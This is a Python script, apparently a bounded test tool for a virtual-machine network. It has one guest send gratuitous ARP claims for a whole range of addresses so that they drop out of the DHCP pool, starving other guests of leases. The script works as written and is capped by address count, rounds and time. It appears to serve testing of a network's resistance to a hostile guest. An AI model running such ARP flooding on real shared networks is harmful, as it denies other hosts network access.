"""Claims many addresses of the DHCP range by gratuitous ARP from one guest (issue 11, item 2): for
every address from --first to --last, an ARP request with that address as sender and target, from
this guest's own MAC, --rounds times. An address a guest uses without a lease is kept out of the
DHCP pool, so unbounded this starves every other guest. Bounded by --rounds, the range (at most
1024 addresses) and --seconds.

  ip netns exec NS /usr/bin/python3 arp_claims.py --iface eth0 --first 192.168.64.2 --last 192.168.64.254
Prints {"sent", "addresses", "seconds"}.
"""

import argparse
import ipaddress
import time

from hostile_link import Link, garp, print_result


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--iface", default="eth0")
    parser.add_argument("--first", required=True)
    parser.add_argument("--last", required=True)
    parser.add_argument("--rounds", type=int, default=2)
    parser.add_argument("--seconds", type=float, default=10.0)
    args = parser.parse_args()

    first = int(ipaddress.IPv4Address(args.first))
    last = int(ipaddress.IPv4Address(args.last))
    last = min(last, first + 1023)
    link = Link(args.iface)
    started = time.monotonic()
    deadline = started + min(args.seconds, 60.0)
    sent = 0
    for _ in range(max(1, min(args.rounds, 10))):
        for value in range(first, last + 1):
            if time.monotonic() >= deadline:
                break
            link.send(garp(link.mac, str(ipaddress.IPv4Address(value))))
            sent += 1
        time.sleep(0.2)
    link.close()
    print_result({"sent": sent, "addresses": max(0, last - first + 1), "seconds": round(time.monotonic() - started, 2)})


if __name__ == "__main__":
    main()
